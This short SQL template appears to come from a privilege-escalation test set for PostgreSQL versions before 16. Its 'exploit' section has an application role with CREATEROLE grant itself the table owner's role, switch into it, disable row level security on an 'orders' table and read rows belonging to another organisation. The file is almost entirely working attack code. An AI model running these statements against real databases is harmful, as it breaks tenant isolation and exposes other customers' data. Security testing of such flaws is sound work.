-- Up to 15 CREATEROLE grants itself any role that is no superuser, the owner among them.
-- object: role:{app}
-- base: integer
-- server: <16
--- leak
RESET ROLE;
ALTER ROLE {app} CREATEROLE;
--- exploit
GRANT {owner} TO {app};
SET LOCAL ROLE {owner};
ALTER TABLE orders DISABLE ROW LEVEL SECURITY;
SELECT id FROM orders WHERE org_id = {B};
